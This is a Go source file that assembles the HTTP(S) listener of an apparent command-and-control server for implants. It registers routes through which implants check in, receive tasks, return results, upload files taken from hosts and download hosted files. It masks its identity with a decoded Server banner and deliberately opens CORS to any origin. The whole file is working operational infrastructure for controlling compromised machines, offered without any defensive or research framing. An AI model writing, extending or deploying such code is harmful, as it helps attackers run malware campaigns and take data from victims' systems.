// Package listener assembles the chi router and http.Server for the
// implant-facing protocol: middleware stack, CORS policy, and route
// registration. Plain HTTP(S) only — there is no second transport for
// this single-protocol listener to dual-home.
package listener

import (
	"context"
	"crypto/tls"
	"fmt"
	"log/slog"
	"net/http"
	"time"

	"github.com/go-chi/chi/v5"

	"github.com/duskrelay/beaconsrv/banner"
	"github.com/duskrelay/beaconsrv/config"
	"github.com/duskrelay/beaconsrv/handlers"
	"github.com/duskrelay/beaconsrv/shield"
)

// allowedHeaders and allowedMethods are the fixed CORS policy (spec §4.9):
// any origin, a fixed method/header set — there is no browser session to
// protect, so the permissive policy is deliberate rather than an oversight.
const (
	allowedMethods = "GET, POST, OPTIONS"
	allowedHeaders = "Content-Type, Authorization, X-Request-ID, X-Correlation-ID, User-Agent, Content-MD5"
)

// New builds the listener's http.Server, wired with the full middleware
// stack and every protocol route from deps and cfg.
func New(cfg *config.Config, deps *handlers.Deps) (*http.Server, error) {
	serverBanner := banner.MustDecode()

	r := chi.NewRouter()
	r.Use(shield.Recover)
	r.Use(shield.TraceID)
	r.Use(shield.MaxBody(64 << 20))
	r.Use(corsMiddleware)
	r.Use(bannerMiddleware(serverBanner))
	r.Use(routeHitMiddleware)

	slog.Info("resolved paths",
		"register_path", cfg.Paths.Register, "task_path", cfg.Paths.Task,
		"result_path", cfg.Paths.Result, "reconnect_path", cfg.Paths.Reconnect)

	r.Get("/alive", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"alive":true}`))
	})

	r.Get(cfg.Paths.Register, handlers.RegisterGet(deps))
	r.Post(cfg.Paths.Register, handlers.RegisterPost(deps))
	r.Options(cfg.Paths.Reconnect, handlers.Reconnect(deps))
	r.Get(cfg.Paths.Task, handlers.Task(deps))
	r.Post(cfg.Paths.Task+"/u", handlers.DownloadedFile(deps))
	r.Get(cfg.Paths.Task+"/{file_id}", handlers.HostedFile(deps))
	r.Post(cfg.Paths.Result, handlers.Result(deps))

	// OPTIONS on every other route is a bare CORS preflight: reconnect_path
	// is the only route that answers OPTIONS with content.
	r.Options("/*", func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusNoContent)
	})

	dumpRoutes(r)

	addr := fmt.Sprintf("%s:%d", cfg.Listener.Host, cfg.Listener.Port)
	srv := &http.Server{
		Addr:              addr,
		Handler:           r,
		ReadHeaderTimeout: 10 * time.Second,
		WriteTimeout:      60 * time.Second,
		IdleTimeout:       60 * time.Second,
	}

	if cfg.Listener.Type == config.ListenerHTTPS {
		cert, err := tls.LoadX509KeyPair(cfg.TLS.CertPath, cfg.TLS.KeyPath)
		if err != nil {
			return nil, fmt.Errorf("listener: load tls keypair: %w", err)
		}
		srv.TLSConfig = &tls.Config{
			Certificates: []tls.Certificate{cert},
			MinVersion:   tls.VersionTLS12,
			ClientAuth:   tls.NoClientCert,
		}
	}

	return srv, nil
}

// Serve runs srv, choosing ListenAndServe or ListenAndServeTLS per cfg, and
// blocks until the server stops or ctx is cancelled.
func Serve(ctx context.Context, srv *http.Server, cfg *config.Config) error {
	errCh := make(chan error, 1)
	go func() {
		var err error
		if cfg.Listener.Type == config.ListenerHTTPS {
			err = srv.ListenAndServeTLS("", "")
		} else {
			err = srv.ListenAndServe()
		}
		if err != nil && err != http.ErrServerClosed {
			errCh <- err
			return
		}
		errCh <- nil
	}()

	select {
	case <-ctx.Done():
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		return srv.Shutdown(shutdownCtx)
	case err := <-errCh:
		return err
	}
}

func corsMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Methods", allowedMethods)
		w.Header().Set("Access-Control-Allow-Headers", allowedHeaders)
		next.ServeHTTP(w, r)
	})
}

func bannerMiddleware(serverBanner string) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Server", serverBanner)
			next.ServeHTTP(w, r)
		})
	}
}

// routeHitMiddleware reproduces the original listener's per-request
// "[ROUTE ACTIVATED]" trace line at debug level: ambient diagnostics, never
// consulted for protocol decisions.
func routeHitMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		shield.GetLogger(r.Context()).Debug("route activated",
			"method", r.Method, "path", r.URL.Path, "remote_addr", r.RemoteAddr)
		next.ServeHTTP(w, r)
	})
}

// dumpRoutes logs every registered method/path pair once at startup, mirroring
// the original's iteration over its own URL map for operator visibility.
func dumpRoutes(r chi.Router) {
	_ = chi.Walk(r, func(method, route string, _ http.Handler, _ ...func(http.Handler) http.Handler) error {
		slog.Info("route registered", "method", method, "path", route)
		return nil
	})
}
